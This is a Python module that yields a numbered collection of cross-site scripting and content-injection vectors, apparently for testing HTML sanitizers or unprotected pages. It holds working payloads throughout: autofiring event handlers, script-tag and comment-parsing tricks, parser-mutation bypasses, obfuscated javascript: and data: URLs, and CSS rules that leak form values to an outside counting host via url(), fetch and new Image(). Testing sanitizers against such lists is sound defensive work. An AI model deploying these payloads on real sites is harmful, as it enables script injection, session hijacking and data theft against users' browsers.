"""What strangers may write to make a reader's browser run, fetch or send something: structures, each with its number.

`{js}` is what would run, `{out}` an address that counts who asks it. Both tell the number, so that an unprotected page
shows which of them live. None is taken from a list of others: they follow from what HTML, SVG, MathML and CSS can load
and run (the elements and attributes of their specifications), and from how parsers mend what is broken.
"""

# ruff: noqa: E501 - a vector is a line

from __future__ import annotations

import base64
from collections.abc import Iterator

#: (element with its attributes, handler): fires by itself, or when a person touches it.
_HANDLERS = (
    "<img src=x: {on}error='{js}'>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=' {on}load='{js}'>",
    "<svg {on}load='{js}'></svg>",
    "<body {on}load='{js}'>",
    "<body {on}pageshow='{js}'>",
    "<body {on}resize='{js}'>",
    "<input autofocus {on}focus='{js}'>",
    "<select autofocus {on}focus='{js}'></select>",
    "<textarea autofocus {on}focus='{js}'></textarea>",
    "<button autofocus {on}focus='{js}'>b</button>",
    "<a href=# autofocus tabindex=1 {on}focus='{js}'>a</a>",
    "<div contenteditable autofocus {on}focus='{js}'>d</div>",
    "<unknown-tag tabindex=1 autofocus {on}focus='{js}'>u</unknown-tag>",
    "<details open {on}toggle='{js}'>d</details>",
    "<video {on}error='{js}'><source src=x:></video>",
    "<video src=x: {on}error='{js}'></video>",
    "<audio src=x: {on}error='{js}'></audio>",
    "<video><source src=x: {on}error='{js}'></video>",
    "<marquee {on}start='{js}'>m</marquee>",
    "<iframe {on}load='{js}'></iframe>",
    "<object data=x: {on}error='{js}'></object>",
    "<embed src=x: {on}load='{js}'>",
    "<style {on}load='{js}'></style>",
    "<link rel=stylesheet href=x: {on}error='{js}'>",
    "<script src=x: {on}error='{js}'></script>",
    "<image src=x: {on}error='{js}'>",
    "<input type=image src=x: {on}error='{js}'>",
    "<svg><animate {on}begin='{js}' attributeName=x dur=1s></svg>",
    "<svg><set {on}begin='{js}' attributeName=x dur=1s></svg>",
    "<svg><animateTransform {on}begin='{js}' attributeName=transform dur=1s></svg>",
    "<svg><animateMotion {on}begin='{js}' dur=1s></svg>",
    "<svg><image href=x: {on}error='{js}'></svg>",
    "<svg><a tabindex=1 autofocus {on}focus='{js}'><text y=9>a</text></a></svg>",
    "<math tabindex=1 autofocus {on}focus='{js}'></math>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' {on}animationstart='{js}'>p</p>",
    "<style>@keyframes e{}</style><p style='animation:e 1ms' {on}animationend='{js}'>p</p>",
    "<p style='content-visibility:auto' {on}contentvisibilityautostatechange='{js}'>p</p>",
    "<p {on}click='{js}'>p</p>",
    "<p {on}mouseover='{js}'>p</p>",
    "<p {on}pointerenter='{js}'>p</p>",
    "<p {on}wheel='{js}'>p</p>",
    "<p {on}copy='{js}'>p</p>",
    "<form {on}submit='{js}'><button>b</button></form>",
    "<frameset {on}load='{js}'><frame></frameset>",
    "<table background=x: {on}error='{js}'><tr><td {on}click='{js}'>t</table>",
    "<picture><source srcset=x:><img {on}error='{js}' src=x:></picture>",
    "<button popovertarget=p{n}>b</button><p popover id=p{n} {on}beforetoggle='{js}'>p</p>",
    "<track {on}error='{js}' src=x:>",
    "<body {on}hashchange='{js}'><a href=#h>h</a>",
    "<div hidden=until-found {on}beforematch='{js}'>d</div>",
)
#: How a handler's name, or what stands before it, may be written.
_WAYS = ("on", "ON", "oN", " /on", "\n\t on", "x='>'on")
_SCRIPTS = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script\n>{js}</script\t>",
    "<script/x>{js}</script>",
    "<script src='{out}'></script>",
    "<script src=//{host}/s{n}></script>",
    "<script type=module>{js}</script>",
    "<script type=module src='{out}'></script>",
    "<script async src='{out}'></script>",
    "<script>{js}",
    "<script>/*</title>*/{js}//",
    "<scr<script>ipt>{js}</script>",
    "<<script>{js}//<</script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href='{out}'/></svg>",
    "<svg><script><![CDATA[{js}]]></script></svg>",
    "<math><script>{js}</script></math>",
    "<svg><desc><script>{js}</script></desc></svg>",
    "<svg><foreignObject><script>{js}</script></foreignObject></svg>",
    "<template><script>{js}</script></template><script>{js}</script>",
    '<noscript><p title="</noscript><script>{js}</script>">',
    '<title><p title="</title><script>{js}</script>">',
    '<textarea><p title="</textarea><script>{js}</script>">',
    '<style><p title="</style><script>{js}</script>">',
    '<xmp><p title="</xmp><script>{js}</script>">',
    '<noembed><p title="</noembed><script>{js}</script>">',
    '<noframes><p title="</noframes><script>{js}</script>">',
    '<iframe><p title="</iframe><script>{js}</script>">',
    "<!--><script>{js}</script>-->",
    "<!--x--!><script>{js}</script>",
    "<!-- --><script>{js}</script><!-- -->",
    "<![CDATA[<script>{js}</script>]]>",
    "<!doctype x [<script>{js}</script>]>",
    "<?xml ?><script>{js}</script>",
    "<?x ><script>{js}</script>",
    "</p x='><script>{js}</script>'>",
    "<!--[if gte mso 9]><script>{js}</script><![endif]--><script>{js}</script>",
    "<p title='</p><script>{js}</script>'>p",
    "<p title=`><script>{js}</script>`>p",
    "<script charset=utf-16>{js}</script>",
    "<script>\u2028{js}</script>",
    "<select><option><script>{js}</script></select>",
    "<table><script>{js}</script></table>",
    "<plaintext><script>{js}</script>",
    "<script language=javascript>{js}</script>",
    "\x00<scr\x00ipt>{js}</scr\x00ipt>",
    "<script>{js}</script >x</script>",
)
#: Parsers mend these; what was text before is an element after.
_MENDED = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x: {on}error='{js}'&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: {on}error='{js}'>",
    "<svg></p><style><a id=\"</style><img src=x: {on}error='{js}'>\">",
    "<math><mi><style><img title='</style><img src=x: {on}error={js0}>'>",
    "<svg><title><style><img title=\"</style></title></svg><img src=x: {on}error='{js}'>\"></style>",
    "<math><annotation-xml encoding='text/html'><style><img title=\"</style><img src=x: {on}error='{js}'>\"></annotation-xml>",
    "<svg><foreignObject><math><mi></foreignObject><style><img title=\"</style><img src=x: {on}error='{js}'>\">",
    "<noscript><style></noscript><img src=x: {on}error='{js}'></style>",
    "<a><table><a><svg><style></a><img src=x: {on}error='{js}'></style>",
    "<select><keygen><style></select><img src=x: {on}error='{js}'></style>",
    "<template><style></template><img src=x: {on}error='{js}'></style>",
    "<p><svg><p><style><!--</style><img title='--><img src=x: {on}error={js0}>'>",
    "<listing>&lt;img src=x: {on}error='{js}'&gt;</listing>",
    "<math><mo><xmp></math><img src=x: {on}error='{js}'></xmp>",
    "<svg><style>&lt;/style&gt;<img src=x: {on}error='{js}'></style></svg>",
    "<b><table><b><tr><td></b><img src=x: {on}error='{js}'></table>",
    "<img src=x:{on}error={js0}//",
    "<img src=\"x:\"{on}error='{js}'",
    "<img src=x: alt='`'{on}error='{js}'title='`'>",
    "<img \x0c{on}error='{js}' src=x:>",
    "<img src=x:\x0b {on}error='{js}'>",
    "<img/src=x:/{on}error='{js}'/>",
    "<img src=x: =' {on}error='{js}'>",
    "<p a='b'{on}x=1><img src=x: {on}error='{js}'></p>",
)
_CARRIERS = (
    "<a href='{u}'>a</a>",
    "<a href='{u}' target=_top>a</a>",
    "<area href='{u}'>",
    "<form action='{u}'><button>b</button></form>",
    "<form><button formaction='{u}'>b</button></form>",
    "<form><input type=submit formaction='{u}'></form>",
    "<iframe src='{u}'></iframe>",
    "<object data='{u}'></object>",
    "<embed src='{u}'>",
    "<svg><a href='{u}'><text y=9>a</text></a></svg>",
    "<svg><a xlink:href='{u}'><text y=9>a</text></a></svg>",
    "<math href='{u}'><mtext>m</mtext></math>",
    "<base href='{u}'><a href=x>a</a>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<img src='{u}'>",
    "<frameset><frame src='{u}'></frameset>",
    "<svg><animate attributeName=href values='{u}'/></svg>",
    "<svg><a id=s{n}><text y=9>a</text><set attributeName=href to='{u}'/></a></svg>",
    "<link rel=stylesheet href='{u}'>",
    "<table background='{u}'><tr><td>t</table>",
    "<input type=image src='{u}'>",
    "<video poster='{u}'></video>",
    "<svg><use href='{u}#x'/></svg>",
)
_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "\x01javascript:{js}",
    " javascript:{js}",
    "&#106;avascript:{js}",
    "javascript&colon;{js}",
    "java&Tab;script:{js}",
    "javascript:%0a{js}",
    "vbscript:{js}",
    "&#x6a&#x61vascript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,{b64}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' {on}load='{js}'/>",
    "data:text/html;charset=utf-7,<script>{js}</script>",
    "feed:javascript:{js}",
    "view-source:{out}",
    "blob:{out}",
    "filesystem:{out}",
    "jar:{out}",
    "about:blank#{js}",
    "file:///etc/passwd",
    "cid:javascript:{js}",
)
#: Asked for as soon as they are read, where nothing keeps them.
_LOADS = (
    "<img src='{out}'>", "<img src={out} width=1 height=1>", "<img src=//{host}/l{n}>", "<img src='\n{out}'>", "<img srcset='{out} 1x'>",
    "<img loading=lazy src='{out}'>", "<picture><source srcset='{out}'><img src=cid:none></picture>", "<img lowsrc='{out}' dynsrc='{out}'>",
    "<image src='{out}'>", "<input type=image src='{out}'>", "<video src='{out}' autoplay></video>", "<video poster='{out}'></video>",
    "<audio src='{out}' preload=auto></audio>", "<audio autoplay><source src='{out}'></audio>",
    "<video autoplay><track default src='{out}'></video>", "<bgsound src='{out}'>", "<body background='{out}'>",
    "<table background='{out}'><tr><td>t</table>", "<table><tr><td background='{out}'>t</table>", "<link rel=stylesheet href='{out}'>",
    "<link rel=icon href='{out}'>", "<link rel=prefetch href='{out}'>", "<link rel=preload as=image href='{out}'>",
    "<link rel=modulepreload href='{out}'>", "<link rel=preconnect href='{out}'>", "<link rel=manifest href='{out}'>",
    "<link rel=prerender href='{out}'>", "<iframe src='{out}'></iframe>", "<iframe srcdoc='<img src={out}>'></iframe>",
    "<object data='{out}'></object>", "<object><param name=src value='{out}'></object>", "<embed src='{out}'>", "<applet code='{out}'></applet>",
    "<frameset><frame src='{out}'></frameset>", "<meta http-equiv=refresh content='0;url={out}'>", "<base href='{out}/'><img src=x>",
    "<svg><image href='{out}' width=9 height=9 /></svg>", "<svg><image xlink:href='{out}' width=9 height=9 /></svg>",
    "<svg><use href='{out}#x'/></svg>", "<svg><filter id=f{n}><feImage href='{out}'/></filter><rect filter='url(#f{n})' width=9 height=9 /></svg>",
    "<svg><rect fill='url({out}#x)' width=9 height=9 /></svg>", "<svg><style>@import '{out}';</style></svg>", "<svg><script href='{out}'/></svg>",
    "<math><mglyph src='{out}'/></math>", "<html manifest='{out}'>", "<portal src='{out}'></portal>", "<fencedframe src='{out}'></fencedframe>",
    "<a href='{out}' ping='{out}'>a</a>", "<form action='{out}'><input name=q value=secret><button>b</button></form>",
    "<form id=o{n} action='{out}'></form><input form=o{n} type=submit>", "<isindex action='{out}' prompt=x>",
    "<style>@import '{out}';</style>", "<style>@import url({out});</style>", "<style>@\\69mport '{out}';</style>", "<style>@import/**/\"{out}\" screen;</style>",
    "<style>body{{background:url({out})}}</style>", "<style>p::before{{content:url({out})}}</style><p>p</p>",
    "<style>@font-face{{font-family:f{n};src:url({out})}} p{{font-family:f{n}}}</style><p>p</p>",
    "<style>input[value^=s]{{background:url({out})}}</style><input value=secret>", "<style>a[href*=k]{{list-style:url({out});display:list-item}}</style><a href=k>k</a>",
    "<style>@media all{{p{{background:url({out})}}}}</style><p>p</p>", "<style>@supports(color:red){{p{{background:url({out})}}}}</style><p>p</p>",
    "<style>:root{{--u:url({out})}} p{{background:var(--u)}}</style><p>p</p>", "<style>p:has(b){{background:url({out})}}</style><p><b>b</b></p>",
    "<style>@layer a{{p{{background:url({out})}}}}</style><p>p</p>", "<style>html{{cursor:url({out}),auto}}</style>",
    "<style>/*</style><style>*/p{{background:url({out})}}</style><p>p</p>", "<style><!--p{{background:url({out})}}--></style><p>p</p>",
    "<p style='background:url({out})'>p</p>", "<p style='background:url(\"{out}\")'>p</p>", "<p style='background-image:image-set(\"{out}\" 1x)'>p</p>",
    "<p style='background-image:-webkit-image-set(url({out}) 1x)'>p</p>", "<p style='background:u\\72l({out})'>p</p>", "<p style='background:\\75\\72\\6c({out})'>p</p>",
    "<p style='background:/**/url({out})'>p</p>", "<p style='background&colon;url&lpar;{out}&rpar;'>p</p>", "<p style='list-style:url({out});display:list-item'>p</p>",
    "<p style='border:9px solid;border-image:url({out}) 9'>p</p>", "<p style='content:url({out})'>p</p>", "<p style='mask:url({out}#m)'>p</p>",
    "<p style='-webkit-mask-image:url({out})'>p</p>", "<p style='filter:url({out}#f)'>p</p>", "<p style='clip-path:url({out}#c)'>p</p>",
    "<p style='shape-outside:url({out});float:left'>p</p>", "<p style='-webkit-box-reflect:below 0 url({out})'>p</p>", "<p style='--u:url({out});background:var(--u)'>p</p>",
    "<p style='color:red;;background-color:red;background:red url({out})'>p</p>", "<p style='color:url({out})'>p</p>", "<p style='font-family:\"x\";background:url({out})'>p</p>",
    "<p style='width:expression({js0})'>p</p>", "<p style='behavior:url({out})'>p</p>", "<p style='-moz-binding:url({out}#x)'>p</p>",
    "<p style='background-color:red}} body{{background:url({out})'>p</p>", "<ul style='list-style-image:url({out})'><li>l</ul>",
    "<div style='width:9px;background:cross-fade(url({out}),url({out}))'>d</div>", "<font face='x;background:url({out})' color='url({out})'>f</font>",
    "<td bgcolor='url({out})'>t</td>", "<img src=cid:x style='content:url({out})'>", "<img src='cid:{out}'>", "<img src='cid:../../../{out}'>",
    "<a href=//{host}/a{n}><img src=//{host}/i{n}></a>", "<link rel=dns-prefetch href=//{host}>", "<script>import('{out}')</script>",
    "<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='{out}'>",
    "<dialog open><form method=dialog action='{out}'><input type=password autofocus></form></dialog>", "<object type=text/html data='{out}'><embed src='{out}'></object>",
)  # fmt: skip


def vectors(host: str) -> Iterator[str]:
    """Each once, numbered; `host` counts who asks it."""
    for number, form in enumerate(_forms()):
        out = f"http://{host}/{number}"
        code = f'new Image().src="{out}"'
        short = f"fetch(`{out}`)"
        yield (
            form.replace("{js}", code)
            .replace("{js0}", short)
            .replace("{out}", out)
            .replace("{host}", host)
            .replace("{n}", str(number))
            .replace("{b64}", _encoded(f"<script>{code}</script>"))
            .replace("{{", "{")
            .replace("}}", "}")
        )


def _forms() -> Iterator[str]:
    for place, form in enumerate(_HANDLERS):
        yield form.replace("{on}", "on")
        if place % 4 == 0:
            yield form.replace(" {on}", f" {_WAYS[1 + place // 4 % (len(_WAYS) - 1)]}")
    yield from _SCRIPTS
    for form in _MENDED:
        yield form.replace("{on}", "on")
    # Each carrier with the plain address, and each address in the carriers that open by themselves or are used most.
    for carrier in _CARRIERS:
        yield carrier.replace("{u}", _ADDRESSES[0])
    for address in _ADDRESSES[1:]:
        for carrier in (_CARRIERS[0], _CARRIERS[6], _CARRIERS[13]):
            yield carrier.replace("{u}", _quoted(address)).replace("{on}", "on")
    yield from _LOADS


def _quoted(address: str) -> str:
    return address.replace("'", "&apos;")


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()
